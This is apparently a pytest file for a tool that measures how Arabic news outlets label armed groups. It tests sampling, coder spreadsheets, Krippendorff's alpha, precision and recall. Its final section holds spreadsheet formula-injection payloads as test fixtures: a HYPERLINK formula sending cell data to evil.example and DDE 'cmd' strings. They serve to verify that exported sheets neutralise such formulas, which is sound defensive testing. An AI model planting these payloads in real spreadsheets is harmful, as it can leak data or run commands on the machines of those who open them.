"""Validation by reading: samples, coding sheets, precision, agreement and the recall aid."""

from __future__ import annotations

import math
import re
import warnings

import krippendorff
import numpy as np
import pandas as pd
import pytest
from openpyxl import load_workbook

import framing
from framing.validate import (
    SHEET_COLUMNS,
    NotYetCodedWarning,
    draw_sample,
    krippendorff_alpha,
    low_precision_terms,
    merge_sheets,
    precision,
    read_sheet,
    recall_sample,
    write_sheet,
)

SEED_OUTLETS = {
    "000_618f82435d22ff3b": "Buratha News",
    "001_bd2704263292804c": "Egyptian site",
    "002_7acfac26dd0fc582": "Micro Syria",
    "003_84cb40cc55fd52e3": "Al Mayadeen",
    "004_3c14a0ab08de09f5": "Al Mayadeen",
}
# diacritics, shadda, tatweel and a zero-width non-joiner (U+200C) that a sheet must keep
MARKED = "أعلن المتحدثُ\u200c الرسميّ أنَّ المسلّحينَ انسحبوا من حيّ الشيخ سعيد فـي حلب"


@pytest.fixture(scope="module")
def corpus(seed_texts) -> pd.DataFrame:
    rows = [{"doc_id": d, "outlet": SEED_OUTLETS[d], "date": pd.Timestamp("2016-10-02"),
             "text": t} for d, t in seed_texts.items()]
    rows.append({"doc_id": "marked", "outlet": "Test", "date": pd.Timestamp("2016-10-03"),
                 "text": MARKED})
    return pd.DataFrame(rows)


@pytest.fixture(scope="module")
def scores(corpus, default_matcher) -> framing.Scores:
    return framing.score(corpus, default_matcher, progress=False)


@pytest.fixture(scope="module")
def sample(scores, corpus) -> pd.DataFrame:
    return draw_sample(scores.hits, corpus, per_cell=3)


def _coded(sample: pd.DataFrame, verdicts: list) -> pd.DataFrame:
    out = sample.copy()
    out["verdict"] = (verdicts * len(out))[: len(out)]
    return out


# -- sampling ------------------------------------------------------------------------


def test_sample_is_seeded(scores, corpus, sample):
    again = draw_sample(scores.hits, corpus, per_cell=3)
    assert again.equals(sample)
    other = draw_sample(scores.hits, corpus, per_cell=3, random_state=1)
    assert set(other["item_id"]) != set(sample["item_id"])
    assert len(other) == len(sample)  # same strata, same sizes


def test_strata_are_capped_and_small_cells_taken_whole(scores, corpus, sample):
    hits = scores.hits.assign(outlet=scores.hits["doc_id"].map(
        dict(zip(corpus["doc_id"], corpus["outlet"], strict=True))))
    population = hits.groupby(["category", "outlet"]).size()
    drawn = sample.groupby(["category", "outlet"]).size()
    assert drawn.index.equals(population.index)  # every stratum is represented
    assert (drawn <= 3).all()
    small = population[population <= 3]
    assert len(small) and (drawn[small.index] == small).all()
    assert (drawn[population > 3] == 3).all()
    by_cell = sample.set_index(["category", "outlet"])
    for cell, size in population.items():
        assert set(by_cell.loc[[cell], "cell_population"]) == {size}
    assert np.allclose(sample["sampling_weight"],
                       sample["cell_population"] / sample["cell_sample"])


def test_sample_rows_carry_their_context(corpus, sample):
    texts = dict(zip(corpus["doc_id"], corpus["text"], strict=True))
    assert sample["item_id"].is_unique
    assert list(sample.columns) == SHEET_COLUMNS
    for row in sample.itertuples():
        text = texts[row.doc_id]
        assert row.keyword == text[row.start:row.end]
        assert row.item_id == f"{row.doc_id}:{row.start}-{row.end}"
        assert text[:row.start].rstrip().endswith(row.pre)
        assert text[row.end:].lstrip().startswith(row.post)
    assert (sample["verdict"] == "").all() and (sample["notes"] == "").all()


def test_sample_strata_must_exist(scores, corpus):
    with pytest.raises(ValueError, match="'genre'"):
        draw_sample(scores.hits, corpus, strata=("category", "genre"))
    with pytest.raises(ValueError, match="'per_cell' parameter"):
        draw_sample(scores.hits, corpus, per_cell=0)


# -- sheets ----------------------------------------------------------------------------


@pytest.mark.parametrize("suffix", [".xlsx", ".csv"])
def test_sheet_round_trip_keeps_arabic_exactly(tmp_path, sample, suffix):
    marked = sample[sample["doc_id"] == "marked"]
    assert "\u200c" in marked["pre"].iloc[0] and "ّ" in marked["keyword"].iloc[0]
    coded = _coded(sample, ["correct", "incorrect", "unsure", " Correct ", "صحيح", "خطأ",
                            "غير متأكد", 1, 0, "1.0"])
    coded.loc[coded.index[0], "notes"] = "كلمة «المسلّحين» هنا وصفٌ\u200c لا تسمية"
    coded.loc[coded.index[1], "notes"] = "=1+1"  # text, not a formula
    path = write_sheet(coded, tmp_path / f"coder_a{suffix}", coder="A")
    back = read_sheet(path)
    for column in ("item_id", "doc_id", "category", "term", "pre", "keyword", "post", "notes"):
        assert back[column].tolist() == coded[column].astype(str).tolist(), column
    assert back["start"].tolist() == coded["start"].tolist()
    assert np.allclose(back["sampling_weight"], coded["sampling_weight"])
    expected = (["correct", "incorrect", "unsure", "correct", "correct", "incorrect", "unsure",
                 "correct", "incorrect", "correct"] * len(coded))[: len(coded)]
    assert back["verdict"].tolist() == expected
    assert set(back["coder"]) == {"A"}
    assert (back["date"] == coded["date"]).all()


def test_xlsx_sheet_is_set_up_for_coders(tmp_path, sample):
    path = write_sheet(sample, tmp_path / "sheet.xlsx")
    book = load_workbook(path)
    sheet = book["coding"]
    assert sheet.sheet_view.rightToLeft
    assert sheet.freeze_panes == "A2"
    header = [c.value for c in sheet[1]]
    assert header == SHEET_COLUMNS
    verdict = header.index("verdict")
    letter = sheet.cell(row=1, column=verdict + 1).column_letter
    (rule,) = sheet.data_validations.dataValidation
    assert rule.formula1 == '"correct,incorrect,unsure"'
    assert str(rule.sqref) == f"{letter}2:{letter}{len(sample) + 1}"
    pre = sheet.cell(row=1, column=header.index("pre") + 1).column_letter
    assert sheet.column_dimensions[pre].width == 60
    assert sheet.cell(row=2, column=header.index("pre") + 1).alignment.readingOrder == 2
    assert "about" in book.sheetnames


def test_csv_sheet_has_a_byte_order_mark(tmp_path, sample):
    path = write_sheet(sample, tmp_path / "sheet.csv")
    assert path.read_bytes().startswith(b"\xef\xbb\xbf")


def test_sheets_are_not_overwritten(tmp_path, sample):
    path = write_sheet(sample, tmp_path / "sheet.xlsx")
    with pytest.raises(FileExistsError, match=re.escape(str(path))):
        write_sheet(sample, path)
    write_sheet(sample, path, overwrite=True)
    with pytest.raises(ValueError, match=r"\.xlsx or \.csv"):
        write_sheet(sample, tmp_path / "sheet.ods")


@pytest.mark.parametrize("suffix", [".xlsx", ".csv"])
def test_invalid_verdicts_are_reported_by_row(tmp_path, sample, suffix):
    coded = _coded(sample, ["correct"])
    coded.loc[coded.index[2], "verdict"] = "yes"
    coded.loc[coded.index[5], "verdict"] = "x"
    path = write_sheet(coded, tmp_path / f"sheet{suffix}")
    with pytest.raises(ValueError) as error:
        read_sheet(path)
    message = str(error.value)
    # the header is row 1, so the third item is on row 4
    assert "row 4 ('yes')" in message and "row 7 ('x')" in message
    assert "2 verdict(s)" in message and str(path) in message


def test_blank_verdicts_are_not_yet_coded(tmp_path, sample):
    coded = _coded(sample, ["incorrect"])
    coded.loc[coded.index[:2], "verdict"] = ""
    path = write_sheet(coded, tmp_path / "sheet.csv")
    with pytest.warns(NotYetCodedWarning, match=f"2 of {len(coded)} items are not yet coded"):
        back = read_sheet(path)
    assert back["verdict"].isna().sum() == 2
    table = precision(back, by="coder")
    assert table["n_not_coded"].item() == 2
    assert table["n_incorrect"].item() == len(coded) - 2  # blanks are not incorrect
    assert table["n"].item() == len(coded) - 2


def test_missing_columns_are_named(tmp_path, sample):
    path = tmp_path / "sheet.csv"
    sample.drop(columns=["verdict", "term"]).to_csv(path, index=False)
    with pytest.raises(ValueError, match=r"sheet\.csv.*'term', 'verdict'"):
        read_sheet(path)


def test_control_characters_do_not_break_xlsx(tmp_path, sample):
    odd = sample.head(2).copy()
    odd.loc[odd.index[0], "notes"] = "سطر\x0bآخر"
    with pytest.warns(UserWarning, match="control characters"):
        path = write_sheet(odd, tmp_path / "sheet.xlsx")
    with pytest.warns(NotYetCodedWarning):
        assert read_sheet(path)["notes"].iloc[0] == "سطر\ufffdآخر"


# -- merging and agreement ------------------------------------------------------------------


def test_merge_sheets_of_one_sample(tmp_path, sample):
    first = write_sheet(_coded(sample, ["correct", "incorrect"]), tmp_path / "a.xlsx",
                        coder="A")
    second = write_sheet(_coded(sample, ["correct", "correct"]), tmp_path / "b.csv",
                         coder="B")
    long = merge_sheets([first, second])
    assert list(long.columns) == ["item_id", "coder", "verdict"]
    assert len(long) == 2 * len(sample)
    assert set(long["coder"]) == {"A", "B"}
    wide = long.pivot(index="item_id", columns="coder", values="verdict")
    assert (wide["A"] == wide["B"]).mean() == pytest.approx(0.5, abs=1 / len(sample))


def test_merge_refuses_different_samples(scores, corpus, sample):
    other = draw_sample(scores.hits, corpus, per_cell=3, random_state=7)
    only_first = sorted(set(sample["item_id"]) - set(other["item_id"]))
    only_other = sorted(set(other["item_id"]) - set(sample["item_id"]))
    assert only_first and only_other
    with pytest.raises(ValueError, match="not of the same sample") as error:
        merge_sheets([_coded(sample, ["correct"]), _coded(other, ["correct"])])
    for item in only_first + only_other:
        assert item in str(error.value)
    with pytest.raises(ValueError, match="coder name"):
        merge_sheets([_coded(sample, ["correct"]), _coded(sample, ["correct"])],
                     coders=["A", "A"])


def _long(data: np.ndarray) -> pd.DataFrame:
    """Long table of a coders × items matrix (NaN = missing)."""
    rows = [(f"item{i}", f"coder{c}", data[c, i]) for c in range(data.shape[0])
            for i in range(data.shape[1])]
    return pd.DataFrame(rows, columns=["item_id", "coder", "verdict"])


@pytest.mark.parametrize("seed", range(6))
@pytest.mark.parametrize("n_coders", [2, 3])
def test_alpha_agrees_with_the_krippendorff_package(seed, n_coders):
    rng = np.random.default_rng(seed)
    truth = rng.integers(0, 3, size=40)
    data = np.array([np.where(rng.random(40) < 0.7, truth, rng.integers(0, 3, size=40))
                     for _ in range(n_coders)], dtype=float)
    data[rng.random(data.shape) < 0.2] = np.nan  # missing verdicts
    for level in ("nominal", "ordinal", "interval", "ratio"):
        values = data + 1 if level == "ratio" else data
        expected = krippendorff.alpha(reliability_data=values, level_of_measurement=level)
        assert krippendorff_alpha(_long(values), level=level) == pytest.approx(expected, abs=1e-9)


def test_alpha_on_the_published_example():
    # Krippendorff's worked example (4 coders, 12 items, values 1-5, missing data);
    # the published alphas are 0.743 (nominal), 0.815 (ordinal), 0.849 (interval)
    nan = math.nan
    data = np.array([
        [1, 2, 3, 3, 2, 1, 4, 1, 2, nan, nan, nan],
        [1, 2, 3, 3, 2, 2, 4, 1, 2, 5, nan, 3],
        [nan, 3, 3, 3, 2, 3, 4, 2, 2, 5, 1, nan],
        [1, 2, 3, 3, 2, 4, 4, 1, 2, 5, 1, nan],
    ])
    assert krippendorff_alpha(_long(data)) == pytest.approx(0.743, abs=5e-4)
    assert krippendorff_alpha(_long(data), level="ordinal") == pytest.approx(0.815, abs=5e-4)
    assert krippendorff_alpha(_long(data), level="interval") == pytest.approx(0.849, abs=5e-4)


def test_alpha_of_verdicts():
    long = pd.DataFrame({
        "item_id": ["a", "a", "b", "b", "c", "c", "d", "d", "e"],
        "coder": ["x", "y"] * 4 + ["x"],
        "verdict": ["correct", "correct", "incorrect", "incorrect", "unsure", "unsure",
                    "correct", pd.NA, "incorrect"],
    })
    assert krippendorff_alpha(long) == pytest.approx(1.0)  # full agreement where paired
    long.loc[7, "verdict"] = "incorrect"
    codes = {"correct": 0, "incorrect": 1, "unsure": 2}
    matrix = np.full((2, 5), np.nan)
    for row in long.dropna().itertuples():
        matrix["xy".index(row.coder), "abcde".index(row.item_id)] = codes[row.verdict]
    expected = krippendorff.alpha(reliability_data=matrix, level_of_measurement="nominal")
    assert krippendorff_alpha(long) == pytest.approx(expected, abs=1e-9)
    with pytest.raises(ValueError, match="only one value"):
        krippendorff_alpha(long.assign(verdict="correct"))
    with pytest.raises(ValueError, match="more than once"):
        krippendorff_alpha(pd.concat([long, long.head(1)]))


# -- precision --------------------------------------------------------------------


def _table(rows: list[tuple]) -> pd.DataFrame:
    return pd.DataFrame(rows, columns=["item_id", "category", "term", "outlet", "verdict",
                                       "sampling_weight"])


def test_precision_and_wilson_interval():
    verdicts = ["correct"] * 3 + ["incorrect", "unsure", ""]
    coded = _table([(f"i{k}", "militant", "t", "o", v, 1.0) for k, v in enumerate(verdicts)])
    with warnings.catch_warnings():
        warnings.simplefilter("error")
        row = precision(coded).iloc[0]
    assert (row["n_items"], row["n_coded"], row["n_correct"], row["n_incorrect"],
            row["n_unsure"], row["n_not_coded"], row["n"]) == (6, 5, 3, 1, 1, 1, 4)
    assert row["precision"] == pytest.approx(0.75)
    # Wilson 95% interval for 3 of 4: (0.301, 0.954)
    assert (row["low"], row["high"]) == pytest.approx((0.3006, 0.9544), abs=1e-4)
    strict = precision(coded, unsure="incorrect").iloc[0]
    assert (strict["n"], strict["precision"]) == (5, pytest.approx(0.6))
    none = precision(coded.assign(verdict="correct")).iloc[0]
    assert (none["low"], none["high"]) == (pytest.approx(0.6097, abs=1e-4), 1.0)


def test_weighted_precision_over_strata():
    # outlet o1: 2 items drawn from 2 (weight 1), both correct;
    # outlet o2: 2 items drawn from 20 (weight 10), one correct
    coded = _table([("a", "c", "t", "o1", "correct", 1.0), ("b", "c", "t", "o1", "correct", 1.0),
                    ("c", "c", "t", "o2", "correct", 10.0),
                    ("d", "c", "t", "o2", "incorrect", 10.0)])
    assert precision(coded)["precision"].item() == pytest.approx(0.75)
    weighted = precision(coded, weights="sampling_weight")
    assert weighted["precision"].item() == pytest.approx(12 / 22)
    by_cell = precision(coded, by=("category", "outlet"))
    assert by_cell["precision"].tolist() == [1.0, 0.5]


def test_precision_refuses_several_verdicts_per_item():
    coded = _table([("a", "c", "t", "o", "correct", 1.0), ("a", "c", "t", "o", "incorrect", 1.0)])
    with pytest.raises(ValueError, match="several verdicts"):
        precision(coded)
    with pytest.raises(ValueError, match="'by' parameter"):
        precision(coded.head(1), by="genre")


def test_low_precision_terms():
    rows = []
    for term, n_correct, n_items in [("weak", 6, 12), ("borderline", 9, 12), ("good", 11, 12),
                                     ("rare", 0, 3)]:
        rows += [(f"{term}{k}", "militant", term, "o",
                  "correct" if k < n_correct else "incorrect", 1.0) for k in range(n_items)]
    coded = _table(rows).assign(keyword=lambda t: t["term"] + "_kw")
    listed = low_precision_terms(coded)
    assert listed["term"].tolist() == ["weak", "borderline"]  # lowest precision first
    assert listed["incorrect_keywords"].tolist() == ["weak_kw", "borderline_kw"]
    assert listed.attrs["too_few_coded"] == ["rare"]
    # upper Wilson bounds: 6/12 -> 0.75 (below 0.8), 9/12 -> 0.91
    assert low_precision_terms(coded, use="upper")["term"].tolist() == ["weak"]
    assert "rare" in low_precision_terms(coded, min_coded=3)["term"].tolist()


# -- recall aid ----------------------------------------------------------------------------


@pytest.fixture(scope="module")
def recall_corpus(corpus) -> pd.DataFrame:
    extra = [
        ("q1", "قصف الطيران أحياء حلب الشرقية صباح اليوم"),
        ("q2", "وصلت قافلة مساعدات إلى حلب بعد أسابيع من الحصار"),
        ("q3", "أعلن المحافظ أن الكهرباء عادت إلى بعض أحياء مدينة حلب"),
        ("q4", "قال سكان في بحلب القديمة إن القصف لم يتوقف"),
        ("q5", "ارتفعت أسعار الخبز في دمشق هذا الأسبوع"),
        ("q6", "طالب المسلحون في حلب بممر آمن"),
    ]
    rows = pd.DataFrame({"doc_id": [d for d, _ in extra], "outlet": "Test",
                         "date": pd.Timestamp("2016-11-01"), "text": [t for _, t in extra]})
    return pd.concat([corpus, rows], ignore_index=True)


@pytest.fixture(scope="module")
def recall_counts(recall_corpus, default_matcher) -> pd.DataFrame:
    return framing.score(recall_corpus, default_matcher, progress=False).counts


def test_recall_sample_reads_unlabelled_documents_on_topic(recall_corpus, recall_counts):
    drawn = recall_sample(recall_corpus, recall_counts, dimension="armed_group_label",
                          topic=["حلب"], n=2)
    # q1-q4 mention Aleppo without a label of armed groups; q5 is off topic and q6
    # names المسلحين; the seed articles all name armed groups
    assert drawn.attrs["pool_size"] == 4
    assert len(drawn) == 2 and set(drawn["doc_id"]) <= {"q1", "q2", "q3", "q4"}
    assert (drawn["pool_size"] == 4).all()
    for row in drawn.itertuples():
        assert framing.normalize(row.keyword).endswith("حلب")
    again = recall_sample(recall_corpus, recall_counts, dimension="armed_group_label",
                          topic=["حلب"], n=2)
    assert again.equals(drawn)
    picks = {tuple(recall_sample(recall_corpus, recall_counts, dimension="armed_group_label",
                                 topic=["حلب"], n=2, random_state=s)["doc_id"])
             for s in range(8)}
    assert len(picks) > 1


def test_recall_sample_needs_a_topic_and_says_when_short(recall_corpus, recall_counts):
    with pytest.raises(ValueError, match="needs topic="):
        recall_sample(recall_corpus, recall_counts, dimension="armed_group_label")
    with pytest.raises(ValueError, match="'dimension' parameter"):
        recall_sample(recall_corpus, recall_counts, dimension="armed_groups", topic=["حلب"])
    with pytest.warns(UserWarning, match="only 4 document"):
        drawn = recall_sample(recall_corpus, recall_counts, dimension="armed_group_label",
                              topic=r"حلب", n=10)
    assert sorted(drawn["doc_id"]) == ["q1", "q2", "q3", "q4"]
    assert drawn.set_index("doc_id").loc["q4", "keyword"] == "بحلب"


# -- spreadsheet formulas ------------------------------------------------------------

# what an article may hold right after a keyword: a spreadsheet would run each as a formula
FORMULAS = {
    "eq": '=HYPERLINK("http://evil.example/?q="&A1,"اضغط هنا")',
    "plus": "+1+cmd|' /C calc'!A0 قال",
    "minus": "-2+3 قتلى",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
}


@pytest.fixture(scope="module")
def formula_corpus(seed_texts) -> pd.DataFrame:
    """A seed article four times, each with a formula right after its first المسلحين."""
    text = seed_texts["000_618f82435d22ff3b"]
    first = text.index(" المسلحين ") + len(" المسلحين ")
    rows = [{"doc_id": f"{name}-doc", "outlet": "=Outlet" if name == "eq" else "Outlet",
             "date": pd.Timestamp("2016-10-02"),
             "text": text[:first] + formula + " " + text[first:]}
            for name, formula in FORMULAS.items()]
    rows.append({"doc_id": "-5", "outlet": "@Outlet", "date": pd.Timestamp("2016-10-03"),
                 "text": "قال المسلحين '=1+1"})  # a text's own leading ' reads back too
    return pd.DataFrame(rows)


@pytest.fixture(scope="module")
def formula_sample(formula_corpus, default_matcher) -> pd.DataFrame:
    hits = framing.score(formula_corpus, default_matcher, progress=False).hits
    sample = draw_sample(hits, formula_corpus, per_cell=1000, window=4)
    sample["score"] = -1.5  # a numeric column with negative numbers stays numeric
    return sample


def _trigger_posts(sample: pd.DataFrame) -> pd.Series:
    return sample["post"][sample["post"].str[:1].isin(["=", "+", "-", "@"])]


def test_the_formula_corpus_really_starts_cells_with_formulas(formula_sample):
    posts = _trigger_posts(formula_sample)
    assert len(posts) == 4
    assert sorted(p[0] for p in posts) == ["+", "-", "=", "@"]
    assert {p[:5] for p in posts} == {f[:5] for f in FORMULAS.values()}


def test_csv_sheet_neutralises_formulas_and_reads_them_back(tmp_path, formula_sample):
    import csv

    path = write_sheet(formula_sample, tmp_path / "sheet.csv")
    with path.open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert len(rows) == len(formula_sample)
    cells = [v for row in rows for k, v in row.items() if k != "score"]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    expected = {"'" + p for p in _trigger_posts(formula_sample)} | {"''=1+1"}
    assert {r["post"] for r in rows if r["post"].startswith("'")} == expected
    assert {r["outlet"] for r in rows} == {"'=Outlet", "Outlet", "'@Outlet"}
    (quoted,) = [r for r in rows if r["doc_id"] == "'-5"]
    assert quoted["item_id"].startswith("'-5:")
    assert quoted["post"] == "''=1+1"  # a leading ' of its own gets one more, to read back
    assert {r["score"] for r in rows} == {"-1.5"}  # numbers are not text: left as they are
    with pytest.warns(NotYetCodedWarning):
        back = read_sheet(path)
    for column in ("post", "pre", "keyword", "outlet", "doc_id", "item_id"):
        assert back[column].tolist() == formula_sample[column].astype(str).tolist(), column
    assert back["start"].tolist() == formula_sample["start"].tolist()


def test_xlsx_sheet_neutralises_formulas_and_reads_them_back(tmp_path, formula_sample):
    path = write_sheet(formula_sample, tmp_path / "sheet.xlsx", coder="=1+2")
    book = load_workbook(path)
    about = {row[0].value: row[1] for row in book["about"].iter_rows(min_row=2)}
    assert about["coder"].value == "'=1+2" and about["coder"].data_type == "s"
    sheet = book["coding"]
    header = [c.value for c in sheet[1]]
    values = [dict(zip(header, (c.value for c in row), strict=True))
              for row in sheet.iter_rows(min_row=2)]
    texts = [v for row in values for v in row.values() if isinstance(v, str)]
    assert not [t for t in texts if t[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)
    assert {r["post"] for r in values if (r["post"] or "").startswith("'")} == {
        "'" + p for p in _trigger_posts(formula_sample)} | {"''=1+1"}
    assert {r["score"] for r in values} == {-1.5}  # a number, not text
    with pytest.warns(NotYetCodedWarning):
        back = read_sheet(path)
    for column in ("post", "pre", "outlet", "doc_id"):
        assert back[column].tolist() == formula_sample[column].astype(str).tolist(), column
    assert set(back["coder"]) == {"=1+2"}


def test_xlsx_lines_of_english_articles_read_left_to_right(tmp_path, english_dev_dir):
    manifest = pd.read_csv(english_dev_dir / "manifest.csv", dtype=str)
    english = pd.DataFrame({
        "doc_id": manifest["doc_id"], "outlet": manifest["outlet"], "date": manifest["date"],
        "text": [(english_dev_dir / f"{d}.txt").read_text(encoding="utf-8")
                 for d in manifest["doc_id"]]})
    arabic = framing.load_corpus("sample")[["doc_id", "outlet", "date", "text"]]
    both = pd.concat([arabic, english], ignore_index=True)
    scores = framing.score(both, progress=False)
    sample = draw_sample(scores, both, per_cell=2, strata="category")
    is_english = sample["doc_id"].str.startswith("en_").to_numpy()
    assert is_english.any() and (~is_english).any()
    path = write_sheet(sample, tmp_path / "sheet.xlsx")
    sheet = load_workbook(path)["coding"]
    header = [c.value for c in sheet[1]]
    keyword, pre = header.index("keyword") + 1, header.index("pre") + 1
    for row, english_line in enumerate(is_english, start=2):
        for column in (keyword, pre):
            order = sheet.cell(row=row, column=column).alignment.readingOrder
            assert order == (1 if english_line else 2), (row, column)
    # the sheet runs the way most of its lines read
    assert sheet.sheet_view.rightToLeft == bool(is_english.sum() * 2 < len(is_english))
    # and the sheet still reads back exactly
    back = read_sheet(path)
    assert back["keyword"].tolist() == sample["keyword"].tolist()
    only_english = write_sheet(sample[is_english], tmp_path / "english.xlsx")
    assert not load_workbook(only_english)["coding"].sheet_view.rightToLeft
